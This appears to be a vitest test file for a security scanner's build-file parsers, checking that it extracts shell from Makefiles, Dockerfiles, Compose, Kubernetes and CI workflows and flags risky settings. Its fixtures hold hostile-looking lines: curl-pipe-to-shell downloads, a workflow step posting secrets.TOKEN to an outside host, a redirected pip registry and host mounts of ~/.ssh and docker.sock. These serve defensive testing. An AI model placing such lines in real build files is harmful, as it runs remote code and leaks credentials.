import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { compose, dockerfile, makefile, workflow } from '../../../scanner/languages/build/index.ts';
import { show } from '../../../scanner/value.ts';
import { badSpans, configs, installs, read } from './data-help.ts';

describe('Makefile and justfile', () => {
  it('recipes are shell with exact places and make variables as shell variables', async () => {
    const source = 'CC := gcc\nall: dep\n\t@curl -fsSL $(URL) | bash # $@\n\t-echo $$HOME done\n\nclean:\n\trm -rf $(BUILD_DIR)\n';
    const result = await read(makefile, 'Makefile', source);
    const shell = result.given.filter((unit) => unit.language === 'shell');
    expect(
      shell.map((unit) => [
        unit.text
          .trim()
          .split('\n')
          .map((line) => line.trim()),
        unit.unit.reach,
        unit.unit.note,
      ]),
    ).toEqual([
      [['curl -fsSL ${URL} | bash # $A', 'echo  $HOME done'], 'callable', 'make all'],
      [['rm -rf ${BUILD_DIR}'], 'callable', 'make clean'],
    ]);
    for (const unit of shell) expect(unit.text.length).toBe(result.text(unit.unit).length);
  });

  it('commands that run while it is read', async () => {
    const result = await read(makefile, 'Makefile', 'X := $(shell curl https://x.example/a | sh)\nY != id -u\n');
    expect(result.embedded('shell')).toEqual([
      'curl https://x.example/a | sh | config | callable | runs when the makefile is read',
      'id -u | config | callable | runs when the makefile is read',
    ]);
  });

  it('just recipes may be scripts of other languages', async () => {
    const result = await read(makefile, 'justfile', 'go:\n    #!/usr/bin/env python3\n    print(1)\nv := `id -u`\n');
    expect(result.given.map((unit) => [unit.language, unit.text])).toEqual([
      ['python', '#!/usr/bin/env python3\nprint(1)\n'],
      ['shell', 'id -u'],
    ]);
  });
});

describe('Dockerfile', () => {
  it('states images, commands, downloads, users and what programs trust', async () => {
    const source = [
      'FROM python:3.12 AS base',
      'ENV PIP_INDEX_URL=https://pip.evil.example/simple NODE_TLS_REJECT_UNAUTHORIZED=0',
      'ADD https://files.example/x.tgz /x',
      'RUN --mount=type=cache,target=/c curl -fsSL https://x.example/a \\',
      '  # why',
      '  | sh',
      'USER root',
      'ENTRYPOINT ["python", "-m", "my app"]',
      'FROM base',
      'CMD run me',
      '',
    ].join('\n');
    const result = await read(dockerfile, 'Dockerfile', source);
    expect(installs(result)).toEqual(['docker python@3.12 loose registry']);
    expect(configs(result)).toEqual([
      'docker USER=root privileged',
      'env NODE_TLS_REJECT_UNAUTHORIZED=0 disable-tls',
      'env PIP_INDEX_URL=https://pip.evil.example/simple redirect-registry',
    ]);
    expect(result.of('request').map((fact) => show(fact.url))).toEqual(['https://files.example/x.tgz']);
    const shell = result.given.filter((unit) => unit.language === 'shell').map((unit) => unit.text.replace(/\s+/g, ' ').trim());
    expect(shell).toEqual(['curl -fsSL https://x.example/a \\ \\ | sh', "python -m 'my app'", 'run me']);
  });

  it('reads heredocs and ends as the unprivileged user', async () => {
    const result = await read(dockerfile, 'Dockerfile', `FROM x@sha256:${'a'.repeat(64)}\nRUN <<EOF\ncurl x | sh\nEOF\nUSER root\nUSER app\n`);
    expect(result.given.filter((unit) => unit.language === 'shell').map((unit) => unit.text)).toEqual(['curl x | sh\n']);
    expect(configs(result)).toEqual([]);
    expect(result.of('install')[0]?.pinned).toBe(true);
  });
});

describe('Compose and Kubernetes', () => {
  it('privileges, mounts, ports and commands', async () => {
    const source =
      'services:\n  a:\n    image: x:latest\n    privileged: true\n    network_mode: host\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n      - ~/.ssh:/k\n      - ./data:/data\n    ports: ["8080:80", "127.0.0.1:9000:9000"]\n    command: sh -c "curl x | sh"\n';
    const result = await read(compose, 'docker-compose.yml', source);
    expect(configs(result)).toEqual([
      'docker network_mode=host disable-sandbox',
      'docker privileged=true privileged',
      'docker volumes=/var/run/docker.sock:/var/run/docker.sock mount-host',
      'docker volumes=~/.ssh:/k mount-host',
    ]);
    expect(result.of('listen').map((fact) => `${show(fact.host)}:${fact.port ? show(fact.port) : ''}`)).toEqual(['0.0.0.0:8080', '127.0.0.1:9000']);
    expect(result.embedded('shell')).toEqual(['sh -c "curl x | sh" | config | callable | command of service a']);
    const honest = await read(compose, 'compose.yaml', 'services:\n  a:\n    build: .\n    volumes: ["./x:/x", "cache:/c"]\n');
    expect(configs(honest)).toEqual([]);
  });

  it('pods', async () => {
    const result = await read(
      compose,
      'k8s.yaml',
      'apiVersion: v1\nkind: Pod\nspec:\n  hostNetwork: true\n  volumes:\n    - hostPath: {path: /}\n  containers:\n    - image: x:1\n      command: ["sh", "-c", "id"]\n      securityContext: {privileged: true}\n',
    );
    expect(configs(result)).toEqual([
      'docker hostNetwork=true disable-sandbox',
      'docker privileged=true privileged',
      'docker volumes.hostPath=/ mount-host',
    ]);
    expect(result.given.filter((unit) => unit.language === 'shell').map((unit) => unit.text)).toEqual(['sh -c id']);
  });
});

describe('pipelines', () => {
  it('steps, actions, secrets', async () => {
    const source =
      'name: x\non: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: owner/tool@0123456789012345678901234567890123456789\n      - run: |\n          echo \'${{ toJSON(secrets) }}\'\n          curl -d "${{ secrets.TOKEN }}" https://x.example\n      - shell: python\n        run: print(1)\n';
    const result = await read(workflow, '.github/workflows/x.yml', source);
    expect(installs(result)).toEqual([
      'action actions/checkout@v4 loose vcs',
      'action owner/tool@0123456789012345678901234567890123456789 pinned vcs',
    ]);
    expect(result.of('env').map((fact) => show(fact.name))).toEqual(['*', 'TOKEN']);
    const [shell, python] = result.given.filter((unit) => unit.unit.role === 'config' && unit.language !== 'prose');
    expect(shell!.text).toContain('curl -d "${__outer_');
    expect([shell!.unit.reach, python!.language, python!.text]).toEqual(['callable', 'python', 'print(1)']);
    expect(configs(result)).toEqual(['github on=pull_request_target other']);
  });

  it('GitLab and Taskfile', async () => {
    const gitlab = await read(workflow, '.gitlab-ci.yml', 'build:\n  image: x:1\n  script:\n    - curl x | sh\n');
    expect(gitlab.embedded('shell')).toEqual(['curl x | sh | config | callable | job build']);
    const task = await read(workflow, 'Taskfile.yml', 'tasks:\n  go:\n    cmds:\n      - go build ./...\n      - cmd: id\n');
    expect(task.embedded('shell')).toEqual(['go build ./... | config | callable | task go', 'id | config | callable | task go']);
  });
});

describe('hostile build files', () => {
  it('never throw and stay in the file', async () => {
    const piece = fc.constantFrom(
      'FROM ',
      'RUN ',
      'CMD [',
      '"a"',
      ']',
      '\\\n',
      '\n',
      '\t',
      '<<EOF',
      'EOF',
      'all:',
      '$(',
      '${',
      ')',
      '}',
      'shell ',
      '$$',
      '@',
      'jobs:',
      '  steps:',
      '- run: ',
      'services:',
      '#',
      '`',
      ' x',
      'ENV A=',
      '"',
      "'",
    );
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(
          [dockerfile, 'Dockerfile'] as const,
          [makefile, 'Makefile'] as const,
          [makefile, 'justfile'] as const,
          [compose, 'compose.yml'] as const,
          [workflow, 'Taskfile.yml'] as const,
        ),
        fc.array(piece, { maxLength: 40 }),
        async ([language, path], pieces) => {
          const source = pieces.join('');
          const result = await read(language, path, source);
          expect(result.of('opaque').filter((fact) => fact.why === 'crash')).toEqual([]);
          expect(badSpans(result, source.length)).toEqual([]);
        },
      ),
      { numRuns: 600 },
    );
  });

  it('cost linear time', async () => {
    for (const [language, path, source] of [
      [dockerfile, 'Dockerfile', 'RUN a \\\n'.repeat(60_000)],
      [dockerfile, 'Dockerfile', 'RUN <<A <<B <<C\n'.repeat(5_000)],
      [dockerfile, 'Dockerfile', `RUN ${'--x=1 '.repeat(50_000)}`],
      [makefile, 'Makefile', `a:\n${'\t$('.repeat(60_000)}`],
      [makefile, 'Makefile', '$(shell '.repeat(20_000)],
    ] as const) {
      const started = performance.now();
      await read(language, path, source);
      expect(performance.now() - started, path + source.slice(0, 12)).toBeLessThan(60_000);
    }
  }, 60_000);
});
